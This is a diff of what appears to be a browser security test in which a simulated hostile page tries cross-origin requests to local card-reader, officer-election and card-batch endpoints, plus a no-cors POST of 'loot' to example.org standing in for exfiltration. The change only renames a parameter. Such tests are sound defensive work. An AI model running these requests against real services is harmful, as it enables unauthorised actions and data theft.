@@ -73,7 +73,7 @@ export async function openHostilePage(
   };
 }
 
-function tryAll(page: Page, { terminal, local, desk }: Office): Promise<Attempt[]> {
+function tryAll(page: Page, { terminal, local, station }: Office): Promise<Attempt[]> {
   const cbor = { 'content-type': 'application/cbor' };
   const json = { 'content-type': 'application/json' };
   const junk = String.fromCharCode(0x82, 1, 2);
@@ -100,7 +100,7 @@ function tryAll(page: Page, { terminal, local, desk }: Office): Promise<Attempt[
     ],
     ['read the card', `${terminal.pc}/finlet/card`, { method: 'POST', headers: cbor, body: junk }],
     ['be the officer', `${local.commissionerUrl}/officer/elections`, { credentials: 'include' }],
-    ['make cards', `${desk}/desk/batch`, { method: 'POST', headers: json, body: '{}' }],
+    ['make cards', `${station}/desk/batch`, { method: 'POST', headers: json, body: '{}' }],
     ['tell a stranger', 'https://example.org/', { method: 'POST', mode: 'no-cors', body: 'loot' }],
   ];
   return page.evaluate(
